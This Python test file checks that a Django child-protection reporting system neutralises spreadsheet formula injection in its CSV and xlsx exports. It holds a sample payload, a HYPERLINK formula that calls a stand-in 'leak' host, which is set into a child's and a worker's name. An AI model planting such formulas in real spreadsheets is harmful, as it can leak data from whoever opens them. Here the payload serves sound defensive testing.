"""Spreadsheet formula injection: nothing a user typed becomes a live formula in a CSV or xlsx."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reporting.annex_a import annex_a_build, annex_a_workbook
from tests.cases.factories import ReferralFactory
from tests.conferences.factories import ConferenceFactory
from tests.reporting.casework import record_casework
from tests.strategy.factories import Section47Factory, StrategyDiscussionFactory, london
from wirral_cp.spreadsheets import safe_cell

FORMULA = '=HYPERLINK("http://example.invalid/?leak","Click")'


@pytest.mark.parametrize(
    "value", [FORMULA, "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"], ids=repr
)
def test_safe_cell_quotes_text_a_spreadsheet_would_run(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Ruby Example", "", "O'Brien", 3, -1, None, datetime.date(2026, 3, 31)], ids=repr
)
def test_safe_cell_leaves_everything_else_alone(value):
    assert safe_cell(value) == value


def test_drill_down_csv_does_not_carry_a_formula_in_a_childs_name(world, login):
    world.child.first_name = FORMULA
    world.child.save()
    referral = ReferralFactory(child=world.child, received_at=london(2018, 8, 21))
    discussion = StrategyDiscussionFactory(referral=referral, held_at=london(2018, 8, 22, 14))
    ConferenceFactory(
        section47=Section47Factory(strategy_discussion=discussion),
        status="held",
        held_on=datetime.date(2018, 9, 13),
    )
    response = login(world.senior_manager).get(
        reverse("dashboards:drill", args=["icpc_held"]),
        {"from": "2018-09-01", "to": "2018-09-30", "format": "csv"},
    )
    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    assert rows[1][0] == f"'{FORMULA} {world.child.last_name}"
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


def test_annex_a_does_not_write_a_workers_name_as_a_formula(world):
    record_casework(world)
    world.social_worker.first_name = FORMULA
    world.social_worker.save()
    book = load_workbook(
        io.BytesIO(annex_a_workbook(annex_a_build(as_of=datetime.date(2026, 3, 31))))
    )
    workers = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and FORMULA in cell.value
    ]
    assert workers, "the worker's name should be in the workbook"
    assert all(cell.data_type == "s" and cell.value.startswith("'=") for cell in workers)
